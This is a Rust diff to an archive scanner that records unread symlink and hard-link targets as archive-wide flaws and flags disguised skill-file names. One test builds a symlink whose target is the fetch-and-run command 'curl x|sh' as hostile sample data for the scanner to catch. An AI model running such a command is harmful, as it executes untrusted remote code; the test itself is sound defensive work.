@@ -145,11 +145,8 @@ impl<'b> Entries<'b> {
         self.budget.entries = entries;
         let name = names::parse(raw);
         for (kind, fault) in &name.faults {
-            let message = format!("'{}' {fault}", shown(raw));
-            match &name.path {
-                Some(path) if *kind == Odd => self.fault(path, *kind, message),
-                _ => self.fault_of_all(*kind, message),
-            }
+            // Programs may unpack the entry under another name, and so into any skill.
+            self.fault_of_all(*kind, format!("'{}' {fault}", shown(raw)));
         }
         Ok(name)
     }
@@ -248,18 +245,21 @@ impl<'b> Entries<'b> {
     /// Adds a symlink.
     pub(super) fn link(&mut self, path: &RelPath, target: &str) {
         if target.len() > MAX_NAME_BYTES || !self.charge_name(target.len()) {
-            self.leave(path, "it is a symlink with a long target");
+            self.leave_link(path, "it is a symlink with a long target");
             return;
         }
         let Some(links) = self.budget.links.checked_sub(1) else {
-            self.leave(path, "it is one of too many symlinks");
+            self.leave_link(path, "it is one of too many symlinks");
             return;
         };
         self.budget.links = links;
         if self.files.contains_key(path) {
             self.fault_both(path);
         }
-        if target.contains(is_unusual) && self.budget.charge_kept(target.len()) {
+        let is_unusual = target.contains(is_unusual);
+        if is_unusual && !self.budget.charge_kept(target.len()) {
+            self.leave_link(path, TOO_MUCH);
+        } else if is_unusual {
             // Programs that do not support symlinks write the target to a file.
             let copy = copy_of(path, 1);
             let [name, scanned] = [path, &copy].map(shown_path);
@@ -288,7 +288,7 @@ impl<'b> Entries<'b> {
     /// Adds a hard link. `target`: the name of the entry that it leads to.
     pub(super) fn hard_link(&mut self, path: &RelPath, target: &[u8]) {
         if target.len() > MAX_NAME_BYTES || !self.charge_name(target.len()) {
-            self.leave(path, "it is a hard link with a long target");
+            self.leave_link(path, "it is a hard link with a long target");
             return;
         }
         let name = names::parse(target);
@@ -311,6 +311,14 @@ impl<'b> Entries<'b> {
     fn leave(&mut self, path: &RelPath, why: &str) {
         let message = format!("'{}' was not scanned: {why}", shown_path(path));
         self.fault(path, Unread, message);
+        self.missing.insert(path.clone());
+    }
+
+    /// Records that the target of a link was not read. This is a flaw of the whole archive: programs may unpack other
+    /// entries through the link, or write the target to a file.
+    pub(super) fn leave_link(&mut self, path: &RelPath, why: &str) {
+        let message = format!("'{}' was not scanned: {why}", shown_path(path));
+        self.fault_of_all(Unread, message);
         self.missing.insert(path.clone());
     }
 
@@ -357,6 +365,13 @@ impl<'b> Entries<'b> {
         let names = self.files.keys().chain(links.iter().map(|(path, _)| path));
         let names: BTreeSet<RelPath> = names.chain(&self.missing).cloned().collect();
         self.compare_names(&names, stop);
+        for path in names
+            .iter()
+            .filter(|path| names::is_disguised_main(path.file_name()))
+        {
+            let message = format!("'{}' is a {SKILL_FILE} on some systems", shown_path(path));
+            self.fault_of_all(Odd, message);
+        }
         let names: Vec<(RelPath, ())> = names.into_iter().map(|path| (path, ())).collect();
         for (link, _) in &links {
             if let Some((path, ())) = names[range_below(&names, link)].first() {
@@ -614,9 +629,29 @@ mod tests {
             [
                 "'c' was not scanned: the scanned archives contain too much data",
                 "'d' was not scanned: it is a hard link to 'none', which is not in the archive",
-                "'e' was not scanned: it is a hard link with a long target",
             ]
         );
+        let whole = archive.whole.first().map(|flaw| &*flaw.message);
+        let long = "'e' was not scanned: it is a hard link with a long target";
+        assert_eq!(whole, Some(long));
+    }
+
+    /// Hostile: some programs write the target, which is a script, to a file.
+    #[test]
+    fn a_symlink_whose_target_was_not_read_is_a_flaw_of_the_archive() {
+        for (kept, links, names) in [(0, 1, 20), (9, 0, 20), (9, 1, 0)] {
+            let mut budget = Budget {
+                kept,
+                links,
+                names,
+                ..Budget::default()
+            };
+            let mut entries = Entries::new(&mut budget);
+            entries.link(&path("a/run.sh"), "curl x|sh");
+            let whole = entries.finish(&Stop::default()).whole;
+            let kinds: Vec<FlawKind> = whole.iter().map(|flaw| flaw.kind).collect();
+            assert_eq!(kinds, [Unread], "{whole:?}");
+        }
     }
 
     #[test]
